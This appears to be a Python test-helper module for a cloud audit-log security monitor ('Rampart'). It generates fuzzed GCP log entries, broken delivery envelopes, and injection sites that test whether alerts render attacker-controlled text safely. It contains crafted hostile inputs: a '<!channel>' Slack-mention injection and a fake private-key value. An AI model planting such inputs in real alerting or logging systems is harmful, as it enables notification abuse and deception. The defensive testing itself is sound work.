        policy = {"constraint": _maybe(draw, f"constraints/{constraint}"),
                  draw(st.sampled_from(["booleanPolicy", "listPolicy", "restoreDefault"])): draw(field(st.fixed_dictionaries(
                      {}, optional={"enforced": field(st.booleans()), "allValues": field(st.sampled_from(["ALLOW", "DENY", "X"])),
                                    "allowedValues": field(st.lists(field(NAME_SEGMENT), max_size=2))})))}
        request = {"resource": _maybe(draw, parent), "policy": policy} if verb == "SetOrgPolicy" else {
            "resource": _maybe(draw, parent), "constraint": _maybe(draw, f"constraints/{constraint}")}
        return _shell(draw, _CRM, verb, parent, request, project, resource_type="project", labels={"project_id": project})
    if which == "deny":
        att = f"policies/cloudresourcemanager.googleapis.com%2Fprojects%2F{project}/denypolicies"
        name = f"{att}/{draw(NAME_SEGMENT)}"
        rule = {"denyRule": draw(field(st.fixed_dictionaries({}, optional={
            "deniedPrincipals": field(st.lists(field(st.one_of(st.just("principalSet://goog/public:all"), MEMBERS)), max_size=3)),
            "exceptionPrincipals": field(st.lists(field(MEMBERS), max_size=2)),
            "deniedPermissions": field(st.lists(field(st.one_of(st.sampled_from(
                ["cloudkms.googleapis.com/cryptoKeyVersions.useToDecrypt", "run.googleapis.com/*", "*"]), SECRET_TEXT)), max_size=3)),
        })))}
        request = {"policy": {"name": _maybe(draw, name), "rules": draw(field(st.lists(st.just(rule), max_size=2)))}}
        return _shell(draw, "iam.googleapis.com", "google.iam.v2.Policies." + draw(st.sampled_from(["CreatePolicy", "UpdatePolicy"])),
                      name, request, project, resource_type="audited_resource", labels={"project_id": project})
    method = draw(st.sampled_from(["backendServices.setSecurityPolicy", "securityPolicies.removeRule",
                                   "securityPolicies.patchRule", "securityPolicies.patch"]))
    coll = "backendServices" if method.startswith("backend") else "securityPolicies"
    name = f"{parent}/global/{coll}/{draw(NAME_SEGMENT)}"
    request = {"@type": f"type.googleapis.com/compute.{method}", "securityPolicy": draw(field(st.one_of(st.just(""), NAME_SEGMENT))),
               "priority": draw(field(st.integers(0, 2**31))), "action": draw(field(st.sampled_from(["allow", "deny(403)"]))),
               "rules": draw(field(st.lists(st.fixed_dictionaries({"priority": field(st.integers()), "action": field(st.just("allow"))}), max_size=2)))}
    entry = _shell(draw, "compute.googleapis.com", f"v1.compute.{method}", name, request, project,
                   resource_type="gce_backend_service", labels={"project_id": project})
    entry["operation"] = {"id": "operation-1", "producer": "compute.googleapis.com", "first": True}
    return entry


_PLUMBING = st.sampled_from([
    ("logging.googleapis.com", "google.logging.v2.ConfigServiceV2.UpdateSink", "sinks"),
    ("logging.googleapis.com", "google.logging.v2.ConfigServiceV2.DeleteSink", "sinks"),
    ("pubsub.googleapis.com", "google.pubsub.v1.Subscriber.ModifyPushConfig", "subscriptions"),
    ("pubsub.googleapis.com", "google.pubsub.v1.Publisher.DeleteTopic", "topics"),
    ("iam.googleapis.com", "google.iam.admin.v1.DeleteServiceAccount", "serviceAccounts"),
])


@st.composite
def plumbing_change(draw: st.DrawFn) -> dict[str, Any]:
    """A write to a sink, topic, subscription or service account, Rampart's or not (corpus: logging/*, pubsub/*)."""
    project = draw(NAME_SEGMENT)
    service, method, coll = draw(_PLUMBING)
    name = f"projects/{project}/{coll}/" + draw(st.one_of(st.just("rampart-audit"), st.just("rampart-push-rampart"), NAME_SEGMENT))
    request = {"sinkName": _maybe(draw, name), "updateMask": draw(field(st.sampled_from(["filter", "destination,filter", ""]))),
               "sink": draw(field(st.fixed_dictionaries({}, optional={"filter": field(SECRET_TEXT), "destination": field(SECRET_TEXT)}))),
               "pushConfig": draw(field(st.fixed_dictionaries({}, optional={"pushEndpoint": field(SECRET_TEXT)})))}
    return _shell(draw, service, method, name, request, project, resource_type="logging_sink", labels={"project_id": project})


@st.composite
def key_posture_change(draw: st.DrawFn) -> dict[str, Any]:
    """KMS Create/UpdateCryptoKey with nextRotationTime, destroyScheduledDuration and a version
    template, and UpdateCryptoKeyPrimaryVersion with a response key (cloudkms.v1.json)."""
    project, loc, ring, key = draw(NAME_SEGMENT), draw(REGION), draw(NAME_SEGMENT), draw(NAME_SEGMENT)
    key_name = f"projects/{project}/locations/{loc}/keyRings/{ring}/cryptoKeys/{key}"
    body = draw(st.fixed_dictionaries({"name": field(st.just(key_name))}, optional={
        "rotationPeriod": _ROTATION, "nextRotationTime": field(st.one_of(st.just("2036-01-01T00:00:00Z"), SECRET_TEXT)),
        "destroyScheduledDuration": _ROTATION,
        "versionTemplate": field(st.fixed_dictionaries({}, optional={"protectionLevel": field(enum(("SOFTWARE", "HSM", "EXTERNAL")))})),
        "primary": field(st.fixed_dictionaries({"name": field(NAME_SEGMENT)}, optional={
            "protectionLevel": field(enum(("SOFTWARE", "HSM", "EXTERNAL"))), "importJob": field(NAME_SEGMENT)})),
    }))
    if draw(st.booleans()):
        method, request, response = "UpdateCryptoKeyPrimaryVersion", {"name": _maybe(draw, key_name), "cryptoKeyVersionId": "2"}, body
    else:
        method, request, response = "UpdateCryptoKey", {"cryptoKey": _maybe(draw, body)}, None
        mask = draw(st.one_of(st.none(), field(st.sampled_from(["nextRotationTime", "destroyScheduledDuration,versionTemplate", ""]))))
        if mask is not None:
            request["updateMask"] = mask
    return _shell(draw, KMS, method, key_name, request, project, resource_type="cloudkms_cryptokey",
                  labels={"project_id": project, "location": loc}, response=response)


LOG_ENTRIES = st.one_of(run_v1_write(), run_v2_write(), set_iam(), kms_change(), function_write(), workload_write(),
                        wider_set_iam(), guardrail_change(), plumbing_change(), key_posture_change())


def log_entries() -> st.SearchStrategy[dict[str, Any]]:
    """LogEntries shaped like the corpus's Cloud Run and KMS entries, with hostile values."""
    return LOG_ENTRIES


# ---------------------------------------------------------------------------
# Real entries, and breaking any entry.


def _load(path: Path) -> Any:
    return json.loads(path.read_text())


def seed_entries() -> list[dict[str, Any]]:
    """Every rule fixture, and every Cloud Run and KMS entry of the corpus."""
    paths = sorted(RULE_FIXTURES.glob("*/*.json"))
    paths += corpus_files("run", "cloudkms")
    return [d for d in (_load(p) for p in paths) if isinstance(d, dict)]


SEEDS: list[dict[str, Any]] = seed_entries()


def slots(doc: Any, skip: frozenset[str] = frozenset()) -> Iterator[tuple[Any, Any]]:
    """Every (container, key-or-index) in `doc`, outermost first, except under keys in `skip`."""
    stack = [doc]
    while stack:
        cur = stack.pop()
        if isinstance(cur, dict):
            for k, v in cur.items():
                if k in skip:
                    continue
                yield cur, k
                stack.append(v)
        elif isinstance(cur, list):
            for i, v in enumerate(cur):
                yield cur, i
                stack.append(v)


def _snake(key: str) -> str:
    return re.sub(r"(?<!^)(?=[A-Z])", "_", key).lower()


MUTATIONS = ("wrong_type", "wrong_type", "drop", "snake", "lower", "wrap_list", "as_json_text", "deep", "huge", "duplicate_list")
_MUTATION = st.sampled_from(MUTATIONS)
_HUGE_UNIT = st.sampled_from(["x", "é", "\u2028", "<!channel>", "a:"])
_HUGE_LEN = st.integers(1_000, 100_000)
_DEPTH = st.integers(1, 150)
_REPEAT = st.integers(2, 200)


def _mutate(draw: st.DrawFn, doc: Any, max_mutations: int) -> Any:
    doc = copy.deepcopy(doc)
    for _ in range(draw(st.integers(1, max_mutations))):
        found = list(slots(doc))
        if not found:
            break
        parent, key = found[draw(st.integers(0, len(found) - 1))]
        op = draw(_MUTATION)
        value = parent[key]
        if op == "wrong_type":
            parent[key] = draw(WRONG_VALUES)
        elif op == "drop":
            del parent[key]
        elif op in ("snake", "lower") and isinstance(parent, dict) and isinstance(key, str):
            parent[_snake(key) if op == "snake" else key.lower()] = parent.pop(key)
        elif op == "wrap_list":
            parent[key] = [value]
        elif op == "as_json_text":
            parent[key] = json.dumps(value)
        elif op == "deep":
            parent[key] = nest(value, draw(_DEPTH), draw(st.booleans()))
        elif op == "huge":
            parent[key] = MARKER + draw(_HUGE_UNIT) * draw(_HUGE_LEN)
        elif op == "duplicate_list" and isinstance(value, list):
            parent[key] = value * draw(_REPEAT)
    return doc


@st.composite
def mutated(draw: st.DrawFn, doc: Any, max_mutations: int = 4) -> Any:
    """`doc` (deep-copied) with 1..`max_mutations` slots broken: a wrong type, the key dropped,
    snake_case or lower-case keys, wrapped in a list or in JSON text, nested deep, a huge
    string, a list repeated."""
    return _mutate(draw, doc, max_mutations)


_SEED = st.sampled_from(SEEDS)


@st.composite
def _broken(draw: st.DrawFn) -> Any:
    if draw(st.booleans()):
        return _mutate(draw, draw(_SEED), 4)
    return _mutate(draw, draw(LOG_ENTRIES), 3)


BROKEN_ENTRIES = _broken()


def broken_entries() -> st.SearchStrategy[Any]:
    """A corpus or fixture entry, or a generated one, with a few slots broken."""
    return BROKEN_ENTRIES


# ---------------------------------------------------------------------------
# Delivery envelopes.


class CloudEventLike(dict):
    """What functions-framework hands a function: attributes by key, the payload as `.data`."""

    def __init__(self, attrs: dict[str, Any], data: Any) -> None:
        super().__init__(attrs)
        self.data = data


AUDIT_WRITTEN = "google.cloud.audit.log.v1.written"
PUBSUB_PUBLISHED = "google.cloud.pubsub.topic.v1.messagePublished"


def b64(doc: Any) -> str:
    return base64.b64encode(json.dumps(doc).encode()).decode()


def push(doc: Any) -> dict[str, Any]:
    return {"message": {"data": b64(doc), "messageId": "1", "message_id": "1", "publishTime": "2025-01-01T00:00:00Z",
                        "attributes": {"logging.googleapis.com/timestamp": "2025-01-01T00:00:00Z"}},
            "subscription": "projects/p/subscriptions/s"}


def gen1(doc: Any) -> dict[str, Any]:
    return {"@type": "type.googleapis.com/google.pubsub.v1.PubsubMessage", "attributes": {}, "data": b64(doc)}


def structured(doc: Any, ce_type: str = AUDIT_WRITTEN) -> dict[str, Any]:
    return {"specversion": "1.0", "type": ce_type, "source": "//cloudaudit.googleapis.com/projects/p/logs/activity",
            "id": "1", "datacontenttype": "application/json", "data": doc}


def structured_b64(doc: Any) -> dict[str, Any]:
    return {"specversion": "1.0", "type": AUDIT_WRITTEN, "id": "1", "data_base64": b64(doc)}


def published(doc: Any) -> dict[str, Any]:
    """A `messagePublished` CloudEvent: its data is a push body."""
    return structured(push(doc), PUBSUB_PUBLISHED)


ENVELOPES: dict[str, Callable[[Any], Any]] = {
    "bare": lambda d: d,
    "push": push,
    "gen1": gen1,
    "structured": structured,
    "structured_b64": structured_b64,
    "published": published,
}
HOWS = ("doc", "bytes", "ce", "ce_bytes")


@dataclass(frozen=True)
class Delivery:
    """One way an entry reaches Rampart: `how` is `doc` (parse), `bytes` (parse_bytes) or `ce`
    (from_cloudevent)."""

    how: str
    payload: Any
    envelope: str


def delivered(entry: Any, envelope: str, how: str) -> Delivery:
    """`entry` in `envelope` (a key of ENVELOPES), as a decoded document (`doc`), an HTTP body
    (`bytes`), or a CloudEvent holding the document (`ce`) or its bytes (binary mode, `ce_bytes`)."""
    doc = ENVELOPES[envelope](entry)
    if how == "doc":
        return Delivery("doc", doc, envelope)
    body = json.dumps(doc).encode()
    if how == "bytes":
        return Delivery("bytes", body, envelope)
    ce_type = PUBSUB_PUBLISHED if envelope in ("push", "published") else AUDIT_WRITTEN
    return Delivery("ce", CloudEventLike({"type": ce_type, "id": "1"}, body if how == "ce_bytes" else doc), envelope)


_ENVELOPE, _HOW = st.sampled_from(sorted(ENVELOPES)), st.sampled_from(HOWS)


def deliveries(entry: Any) -> st.SearchStrategy[Delivery]:
    """`entry` in any accepted envelope, delivered any way."""
    return st.builds(delivered, st.just(entry), _ENVELOPE, _HOW)


_TEXT_GARBLE = st.sampled_from(["truncate", "insert", "non_ascii", "urlsafe", "padding", "whitespace", "empty"])
_BYTES_GARBLE = st.sampled_from(["truncate", "flip", "invalid_utf8", "prefix", "bom", "utf16", "nul"])
_INSERTS = st.sampled_from(["!", "*", "=", "\x00", "%", "-_"])
_NON_ASCII = st.sampled_from(["é", "\u2028", "\udcff", "𝔸"])
_BAD_UTF8 = st.sampled_from([b"\xff", b"\xc3", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80"])
_PREFIXES = st.sampled_from([b")]}'\n", b"garbage", b"\x00\x00", b"[", b"{"])


def _garble_text(draw: st.DrawFn, text: str) -> str:
    how = draw(_TEXT_GARBLE)
    if how == "truncate":
        return text[: draw(st.integers(0, max(0, len(text) - 1)))]
    if how == "insert":
        i = draw(st.integers(0, len(text)))
        return text[:i] + draw(_INSERTS) + text[i:]
    if how == "non_ascii":
        return text + draw(_NON_ASCII)
    if how == "urlsafe":
        return text.replace("+", "-").replace("/", "_") + "-_"
    if how == "padding":
        return text.rstrip("=") + "=" * draw(st.integers(1, 5))
    if how == "whitespace":
        return " " + text[:10] + "\n" + text[10:] + "\t"
    return ""


def _garble_bytes(draw: st.DrawFn, body: bytes) -> bytes:
    how = draw(_BYTES_GARBLE)
    if how == "truncate":
        return body[: draw(st.integers(0, max(0, len(body) - 1)))]
    if how == "flip":
        i = draw(st.integers(0, max(0, len(body) - 1)))
        return body[:i] + bytes([(body[i] if body else 0) ^ draw(st.integers(1, 255))]) + body[i + 1:]
    if how == "invalid_utf8":
        i = draw(st.integers(0, len(body)))
        return body[:i] + draw(_BAD_UTF8) + body[i:]
    if how == "prefix":
        return draw(_PREFIXES) + body
    if how == "bom":
        return b"\xef\xbb\xbf" + body
    if how == "utf16":
        return body.decode("utf-8", "replace").encode("utf-16")
    return body.replace(b":", b"\x00:", 1)


_GARBLE_KIND = st.sampled_from(["b64", "b64_payload", "data_type", "ce_type", "body", "ce_body", "data_base64"])
_B64_ENVELOPE = st.sampled_from([push, gen1, structured_b64])
_B64_PAYLOAD_KIND = st.sampled_from(["binary", "garbled", "odd"])
_ODD_PAYLOADS = st.sampled_from([b"null", b"[]", b"42", b'"text"', b"NaN", b"[" * 5000, b'{"a":' + b"9" * 5000 + b"}"])
_NOT_STR = WRONG_VALUES.filter(lambda v: not isinstance(v, str))
_CE_TYPES = st.one_of(st.sampled_from(["google.cloud.storage.object.v1.finalized", ""]), SECRET_TEXT, st.integers())


def _garbled(draw: st.DrawFn, entry: Any) -> Delivery:
    kind = draw(_GARBLE_KIND)
    if kind == "b64":
        doc = draw(_B64_ENVELOPE)(entry)
        holder = doc.get("message", doc)
        k = "data_base64" if "data_base64" in holder else "data"
        holder[k] = _garble_text(draw, holder[k])
        return Delivery("doc", doc, "garbled-b64")
    if kind == "b64_payload":
        what = draw(_B64_PAYLOAD_KIND)
        if what == "binary":
            raw = draw(st.binary(max_size=200))
        elif what == "garbled":
            raw = _garble_bytes(draw, json.dumps(entry).encode())
        else:
            raw = draw(_ODD_PAYLOADS)
        data = base64.b64encode(raw).decode()
        doc = {"message": {"data": data}} if draw(st.booleans()) else {"@type": "x", "attributes": {}, "data": data}
        return Delivery("doc", doc, "garbled-b64")
    if kind == "data_type":
        bad = draw(_NOT_STR)
        docs = [{"message": {"data": bad}}, {"specversion": "1.0", "data": None, "data_base64": bad},
                {"specversion": "1.0", "type": AUDIT_WRITTEN, "data": bad}]
        return Delivery("doc", docs[draw(st.integers(0, 2))], "garbled-type")
    if kind == "ce_type":
        return Delivery("doc", {"specversion": "1.0", "type": draw(_CE_TYPES), "data": {"bucket": MARKER + "bucket"}}, "garbled-ce-type")
    if kind == "body":
        return Delivery("bytes", _garble_bytes(draw, json.dumps(push(entry)).encode()), "garbled-body")
    if kind == "ce_body":
        data = _garble_bytes(draw, json.dumps(entry).encode())
        return Delivery("ce", CloudEventLike({"type": AUDIT_WRITTEN, "id": "x"}, data), "garbled-ce-body")
    doc = structured_b64(entry)
    doc["data_base64"] = _garble_text(draw, doc["data_base64"])
    return Delivery("doc", doc, "garbled-b64")


@st.composite
def garbled_deliveries(draw: st.DrawFn, entry: Any) -> Delivery:
    """`entry` in an envelope that is broken: bad base64, base64 of garbage, data of the wrong
    type, a non-audit CloudEvent type, or a corrupted HTTP body."""
    return _garbled(draw, entry)


@st.composite
def _any_garbled(draw: st.DrawFn, max_bytes: int) -> Delivery:
    entry = draw(LOG_ENTRIES) if draw(st.booleans()) else draw(BROKEN_ENTRIES)
    if len(json.dumps(entry)) > max_bytes:
        entry = {"protoPayload": {"methodName": MARKER + "too-big-for-an-envelope"}}
    return _garbled(draw, entry)


def any_garbled_deliveries(max_bytes: int = 256 * 1024) -> st.SearchStrategy[Delivery]:
    """A generated or broken entry (at most `max_bytes` of JSON), in a broken envelope."""
    return _any_garbled(max_bytes)


# ---------------------------------------------------------------------------
# Injection strings, and where attacker-controlled text reaches a Finding.


def strings_in(obj: Any) -> Iterator[str]:
    """Every string in a JSON-like value (keys too)."""
    stack = [obj]
    while stack:
        cur = stack.pop()
        if isinstance(cur, str):
            yield cur
        elif isinstance(cur, dict):
            stack.extend(cur.keys())
            stack.extend(cur.values())
        elif isinstance(cur, list | tuple):
            stack.extend(cur)


def _at(doc: Any, path: tuple[Any, ...]) -> Any:
    for p in path:
        doc = doc[p]
    return doc


def _put(doc: Any, path: tuple[Any, ...], value: Any) -> None:
    _at(doc, path[:-1])[path[-1]] = value


_PP = ("protoPayload",)
_REQ = ("protoPayload", "request")
_V1_SPEC = (*_REQ, "service", "spec", "template", "spec")


@dataclass(frozen=True)
class InjectionSite:
    """A LogEntry field whose text reaches a Finding: plant `s` with `plant`, read it back with
    `read`. `fits(s)` is False when `s` cannot be that field and still make the rule fire
    (e.g. a `/` inside one segment of a resource name)."""

    name: str
    rule: str
    fixture: str  # under tests/rules/
    plant: Callable[[Any, str], None]
    read: Callable[[Any], str]
    fits: Callable[[str], bool] = lambda s: True


def _no_slash(s: str) -> bool:
    return "/" not in s


def _plant_v1_service(e: Any, s: str) -> None:
    _put(e, (*_REQ, "name"), f"projects/test-project-1234/locations/us-central1/services/{s}")
    _put(e, (*_PP, "resourceName"), f"namespaces/test-project-1234/services/{s}")


def _plant_v1_region(e: Any, s: str) -> None:
    del _at(e, _REQ)["name"]
    _put(e, (*_REQ, "region"), s)


def _plant_label_location(e: Any, s: str) -> None:
    del _at(e, _REQ)["name"]
    del _at(e, _REQ)["region"]
    _put(e, ("resource", "labels", "location"), s)


def _plant_env(e: Any, s: str, *, what: str) -> None:
    c = _at(e, (*_V1_SPEC, "containers", 0))
    c["env"] = [{"name": s if what == "name" else "DB_PASSWORD", "value": "-----BEGIN RSA PRIVATE KEY-----"}]
    if what == "container":
        c["name"] = s


def _plant_kms_version(e: Any, s: str) -> None:
    name = f"projects/test-project/locations/us/keyRings/{s}/cryptoKeys/test-key/cryptoKeyVersions/1"
    _put(e, (*_REQ, "cryptoKeyVersion", "name"), name)
    _put(e, (*_PP, "resourceName"), name)


def _plant_keyring_location(e: Any, s: str) -> None:
    _put(e, (*_PP, "resourceName"), f"projects/cloud-custodian/locations/{s}/keyRings/cloud-custodian")


INJECTION_SITES: tuple[InjectionSite, ...] = (
    InjectionSite("principal", "run_ingress_open", "run_ingress_open/positive_v1_replace_all.json",
                  lambda e, s: _put(e, (*_PP, "authenticationInfo", "principalEmail"), s), lambda f: f.principal,
                  lambda s: not s.startswith("rampart-")),
    InjectionSite("insertId → event_id", "run_ingress_open", "run_ingress_open/positive_v1_replace_all.json",
                  lambda e, s: _put(e, ("insertId",), s), lambda f: f.event_id),
    InjectionSite("timestamp", "kms_version_disabled", "kms_version_disabled/positive_disabled.json",
                  lambda e, s: _put(e, ("timestamp",), s), lambda f: f.timestamp),
    InjectionSite("Cloud Run service name → resource", "run_ingress_open", "run_ingress_open/positive_v1_replace_all.json",
                  _plant_v1_service, lambda f: f.resource, _no_slash),
    InjectionSite("request.region → location", "run_ingress_open", "run_ingress_open/positive_v1_replace_all.json",
                  _plant_v1_region, lambda f: f.location),
    InjectionSite("resource.labels.location → location", "run_ingress_open", "run_ingress_open/positive_v1_replace_all.json",
                  _plant_label_location, lambda f: f.location),
    InjectionSite("env var name → observed.plaintext_env[].name", "run_plaintext_secrets",
                  "run_plaintext_secrets/positive_v1_password_by_name.json",
                  lambda e, s: _plant_env(e, s, what="name"), lambda f: f.observed["plaintext_env"][0]["name"]),
    InjectionSite("container name → observed.plaintext_env[].container", "run_plaintext_secrets",
                  "run_plaintext_secrets/positive_v1_password_by_name.json",
                  lambda e, s: _plant_env(e, s, what="container"), lambda f: f.observed["plaintext_env"][0]["container"]),
    InjectionSite("ingress value → observed.ingress", "run_ingress_open", "run_ingress_open/positive_v2_update_all.json",
                  lambda e, s: _put(e, (*_REQ, "service", "ingress"), s), lambda f: f.observed["ingress"],
                  lambda s: not s.isdigit() and s not in ("", "all")),
    InjectionSite("VPC egress → observed.vpc_egress", "run_vpc_egress", "run_vpc_egress/positive_v2_all_traffic.json",
                  lambda e, s: _put(e, (*_REQ, "service", "template", "vpcAccess", "egress"), s), lambda f: f.observed["vpc_egress"]),
    InjectionSite("VPC connector → observed.connector", "run_vpc_egress", "run_vpc_egress/positive_v2_all_traffic.json",
                  lambda e, s: _put(e, (*_REQ, "service", "template", "vpcAccess", "connector"), s), lambda f: f.observed["connector"]),
    InjectionSite("service account → observed.service_account", "run_default_service_account",
                  "run_default_service_account/positive_v1_default_compute.json",
                  lambda e, s: _put(e, (*_V1_SPEC, "serviceAccountName"), f"{s}@appspot.gserviceaccount.com"),
                  lambda f: f.observed["service_account"], lambda s: "@" not in s),
    InjectionSite("encryption key → observed.encryption_key", "run_cmek_missing", "run_cmek_missing/positive_v2_key_in_other_location.json",
                  lambda e, s: _put(e, (*_REQ, "service", "template", "encryptionKey"),
                                    f"projects/phi-prod/locations/us-central1/keyRings/{s}/cryptoKeys/run"),
                  lambda f: f.observed["encryption_key"], _no_slash),
    InjectionSite("IAM role → observed.public_members[].role", "run_public_invoker", "run_public_invoker/positive_v1_allusers_in_policy.json",
                  lambda e, s: _put(e, (*_REQ, "policy", "bindings", 0, "role"), s), lambda f: f.observed["public_members"][0]["role"]),
    InjectionSite("IAM role → observed.members[].role", "kms_public_member", "kms_public_member/positive_keyring_allusers.json",
                  lambda e, s: _put(e, (*_REQ, "policy", "bindings", 1, "role"), s), lambda f: f.observed["members"][0]["role"]),
    InjectionSite("IAM member → observed.missing_members", "kms_agent_binding_removed",
                  "kms_agent_binding_removed/positive_delta_remove_agent.json",
                  lambda e, s: _put(e, (*_PP, "serviceData", "policyDelta", "bindingDeltas", 0, "member"),
                                    f"serviceAccount:service-1@gcp-sa-{s}.iam.gserviceaccount.com"),
                  lambda f: f.observed["missing_members"][0]),
    InjectionSite("KMS key ring id → resource", "kms_version_disabled", "kms_version_disabled/positive_disabled.json",
                  _plant_kms_version, lambda f: f.resource, _no_slash),
    InjectionSite("KMS location → location", "kms_unapproved_location", "kms_unapproved_location/positive_europe_west1.json",
                  _plant_keyring_location, lambda f: f.location, lambda s: "/" not in s and s not in REGIONS[:5]),
    InjectionSite("destroyTime → observed.destroy_time", "kms_version_destroy_scheduled",
                  "kms_version_destroy_scheduled/positive_destroy.json",
                  lambda e, s: _put(e, (*_PP, "response", "destroyTime"), s), lambda f: f.observed["destroy_time"], bool),
)


def planted(site: InjectionSite, s: str) -> dict[str, Any]:
    """The site's fixture with `s` planted in the site's field."""
    entry = _load(RULE_FIXTURES / site.fixture)
    site.plant(entry, s)
    return entry


def injection_findings(strings: tuple[str, ...] = INJECTION_STRINGS) -> list[Any]:
    """Real Findings, from the real rules, with every injection string in every field an
    attacker controls: what an alert formatter must render as inert text."""
    from shared.event import parse
    from shared.pipeline import evaluate, triage
    from tests.helpers import default_policy

    loaded = default_policy()
    out = []
    for site in INJECTION_SITES:
        for s in strings:
            if not site.fits(s):
                continue
            event = parse(planted(site, s))
            t = triage(event)
            if not isinstance(t, str):
                out.extend(f for f, _ in evaluate(event, t, loaded) if f.rule == site.rule)
    return out
